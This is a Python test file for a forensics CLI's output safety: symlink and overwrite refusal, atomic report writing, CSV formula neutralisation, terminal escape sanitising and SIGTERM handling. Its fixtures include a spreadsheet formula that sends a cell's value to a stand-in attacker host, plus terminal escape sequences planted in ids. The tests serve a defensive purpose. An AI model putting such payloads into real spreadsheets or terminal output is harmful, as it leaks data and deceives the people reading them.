"""What the forensics commands write: never over the store or an existing file, a report whole or not
at all and never through a symbolic link, CSV that cannot run as formulas, terminal output without
escape sequences from ids; `watch` stops on SIGTERM."""

from __future__ import annotations

import json
import os
import signal
import sys
import time

import duckdb
import polars as pl
import pytest

from kvtrail.cli import main
from kvtrail.report import render
from tests.forensics.test_cli_output import HOSTILE_TENANT, _two_victims_store

WINDOW = ["--from", "2026-09-09T13:00:00Z", "--to", "2026-09-09T14:00:00Z"]
FORMULA_RID = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
FORMULA_TENANT = "@evil"
CLEAR = "\x1b[2J\x1b[H"


@pytest.fixture
def db(tmp_path):
    return _two_victims_store(tmp_path / "s.duckdb")


@pytest.fixture
def formula_db(tmp_path):
    return _two_victims_store(tmp_path / "f.duckdb", rid=FORMULA_RID, tenant=FORMULA_TENANT)


def _runs(db: str) -> int:
    with duckdb.connect(db, read_only=True) as con:
        tables = {r[0] for r in con.execute("SELECT table_name FROM information_schema.tables").fetchall()}
        if "forensic_runs" not in tables:
            return 0
        row = con.execute("SELECT count(*) FROM forensic_runs").fetchone()
        assert row is not None
        return int(row[0])


@pytest.mark.parametrize("fmt", ["table", "csv", "json", "parquet"])
def test_out_never_names_the_store_or_its_files(db, fmt, capsys):
    before = open(db, "rb").read()
    for out in (db, db + ".wal", db + ".workers.log"):
        for force in ([], ["--force"]):
            assert main(["forensics", "affected", "--db", db, "--format", fmt, "--out", out, *force]) == 2
            err = capsys.readouterr().err
            assert err.startswith("error: --out: ") and "is the audit store" in err and len(err.splitlines()) == 1
    assert open(db, "rb").read() == before and not os.path.exists(db + ".workers.log")


def test_out_through_a_symlink_to_the_store_is_refused_before_any_query(db, tmp_path, capsys):
    link = tmp_path / "innocent.csv"
    link.symlink_to(db)
    argv = ["forensics", "findings", "--db", db, "--format", "csv", "--out", str(link), "--force", "--save"]
    assert main(argv) == 2
    assert "is the audit store" in capsys.readouterr().err and _runs(db) == 0  # --save never ran


@pytest.mark.parametrize("fmt", ["table", "csv", "json", "parquet"])
def test_an_existing_out_file_needs_force(db, tmp_path, fmt, capsys):
    out = tmp_path / f"answer.{fmt}"
    out.write_text("old")
    assert main(["forensics", "affected", "--db", db, "--format", fmt, "--out", str(out)]) == 2
    assert "--out: " in capsys.readouterr().err and out.read_text() == "old"
    assert main(["forensics", "affected", "--db", db, "--format", fmt, "--out", str(out), "--force"]) == 0
    assert "wrote 1 rows" in capsys.readouterr().out and out.read_bytes() != b"old"
    assert sorted(os.listdir(tmp_path)) == sorted(["s.duckdb", out.name])  # no staging file left


def test_csv_cells_cannot_run_as_formulas(formula_db, tmp_path, capsys):
    assert main(["forensics", "affected", "--db", formula_db, "--format", "csv"]) == 0
    row = pl.read_csv(capsys.readouterr().out.encode()).row(0, named=True)
    assert row["request_id"] == "'" + FORMULA_RID and row["tenant_id"] == "'" + FORMULA_TENANT
    assert isinstance(row["http_status"], int) and isinstance(row["first_ns"], int)
    assert main(["forensics", "findings", "--db", formula_db, "--format", "csv", "--code", "F1"]) == 0
    found = pl.read_csv(capsys.readouterr().out.encode())
    assert set(found["request_id"]) == {"'" + FORMULA_RID}
    assert main(["forensics", "affected", "--db", formula_db, "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)[0]["request_id"] == FORMULA_RID  # JSON keeps the value exactly
    out = tmp_path / "r"
    assert main(["forensics", "report", "--db", formula_db, *WINDOW, "--out", str(out)]) == 0
    affected = pl.read_csv(out / "affected_responses.csv")
    assert affected["request_id"].to_list() == ["'" + FORMULA_RID] and affected["http_status"].dtype == pl.Int64
    exposed = pl.read_csv(out / "exposed_tenants.csv")
    assert set(exposed["recipient_tenants"]) == {"'" + FORMULA_TENANT}
    assert json.loads((out / "affected_responses.json").read_text())[0]["request_id"] == FORMULA_RID
    assert main(["forensics", "verify-report", str(out), "--db", formula_db]) == 0


def _report(db, out, *extra) -> int:
    return main(["forensics", "report", "--db", db, *WINDOW, "--out", str(out), *extra])


def test_a_report_needs_a_new_or_empty_folder(db, tmp_path, capsys):
    empty = tmp_path / "empty"
    empty.mkdir()
    assert _report(db, empty) == 0 and "report.json" in os.listdir(empty)
    capsys.readouterr()
    assert _report(db, empty) == 2  # now it holds a report
    err = capsys.readouterr().err
    assert "--out: " in err and "is not empty" in err and "--force" in err
    assert _report(db, tmp_path / "s.duckdb", "--force") == 2
    assert "is a file" in capsys.readouterr().err
    assert _report(db, db + ".wal", "--force") == 2  # a folder there would stop DuckDB writing its log
    assert "is the audit store" in capsys.readouterr().err and not os.path.exists(db + ".wal")


def test_force_replaces_the_reports_files_only_and_says_so(db, tmp_path, capsys):
    out = tmp_path / "r"
    assert _report(db, out) == 0
    (out / "report.md").write_text("stale")
    (out / "my-notes.txt").write_text("mine")
    capsys.readouterr()
    assert _report(db, out, "--force") == 0
    err = capsys.readouterr().err
    assert "note: --out: 1 other entries" in err and "my-notes.txt" in err
    assert (out / "my-notes.txt").read_text() == "mine" and (out / "report.md").read_text() != "stale"
    assert main(["forensics", "verify-report", str(out), "--db", db]) == 0
    assert not [n for n in os.listdir(tmp_path) if n.endswith(".partial")]


def test_a_report_failing_half_way_leaves_the_folder_as_it_was(db, tmp_path, monkeypatch, capsys):
    def broken_pdf(*args, **kw):
        raise RuntimeError("pdf renderer crashed")

    good = tmp_path / "good"
    assert _report(db, good) == 0
    old = {n: (good / n).read_bytes() for n in os.listdir(good)}
    monkeypatch.setattr(render, "pdf", broken_pdf)
    with pytest.raises(RuntimeError, match="pdf renderer crashed"):
        _report(db, tmp_path / "new")
    assert not (tmp_path / "new").exists()
    with pytest.raises(RuntimeError):
        _report(db, good, "--force")
    assert {n: (good / n).read_bytes() for n in os.listdir(good)} == old
    assert sorted(os.listdir(tmp_path)) == ["good", "s.duckdb"]  # no staging folder left behind
    monkeypatch.undo()
    assert main(["forensics", "verify-report", str(good), "--db", db]) == 0


def test_a_report_never_writes_through_a_symlink(db, tmp_path, capsys):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    link = tmp_path / "r"
    link.symlink_to(elsewhere, target_is_directory=True)
    assert _report(db, link) == 2 and _report(db, link, "--force") == 2
    assert "symbolic link" in capsys.readouterr().err and os.listdir(elsewhere) == []
    out = tmp_path / "out"
    out.mkdir()
    outside = tmp_path / "outside.md"
    outside.write_text("not yours")
    (out / "report.md").symlink_to(outside)
    assert _report(db, out, "--force") == 0
    assert outside.read_text() == "not yours" and not (out / "report.md").is_symlink()
    assert main(["forensics", "verify-report", str(out), "--db", db]) == 0


def test_ids_reach_the_terminal_escaped(tmp_path, monkeypatch, capsys):
    db = _two_victims_store(tmp_path / "h.duckdb", rid="g" + CLEAR, tenant=HOSTILE_TENANT)
    assert main(["forensics", "watch", "--db", db, "--polls", "1"]) == 0
    out = capsys.readouterr().out
    assert " F1 " in out and "\x1b" not in out and "g\\x1b[2J\\x1b[H" in out
    assert main(["forensics", "affected", "--db", db, "--exclude-tenant", HOSTILE_TENANT + "=test"]) == 0
    err = capsys.readouterr().err
    assert "excluded: 1 affected responses" in err and "\x1b" not in err and "\\x1b[31m[b]" in err
    assert main(["forensics", "affected", "--db", db, "--format", "csv"]) == 0
    assert CLEAR in capsys.readouterr().out  # piped: the file form is exact
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    for fmt in ("csv", "json"):
        assert main(["forensics", "affected", "--db", db, "--format", fmt]) == 0
        text = capsys.readouterr().out
        assert "\x1b" not in text and ("g\\x1b[2J" if fmt == "csv" else "g\\u001b[2J") in text
    (row,) = json.loads(text)  # still valid JSON, meaning the same
    assert row["request_id"] == "g" + CLEAR


def test_watch_stops_on_sigterm(db, monkeypatch, capsys):
    received = []
    previous = signal.signal(signal.SIGTERM, lambda signum, frame: received.append(signum))
    try:
        monkeypatch.setattr(time, "sleep", lambda s: os.kill(os.getpid(), signal.SIGTERM))
        assert main(["forensics", "watch", "--db", db, "--polls", "5", "--interval", "0.05"]) == 0
        assert "in 1 polls" in capsys.readouterr().err and received == []  # stopped at the first signal
        handler = signal.getsignal(signal.SIGTERM)
        assert callable(handler) and handler.__name__ == "<lambda>"  # the old handler is back
    finally:
        signal.signal(signal.SIGTERM, previous)
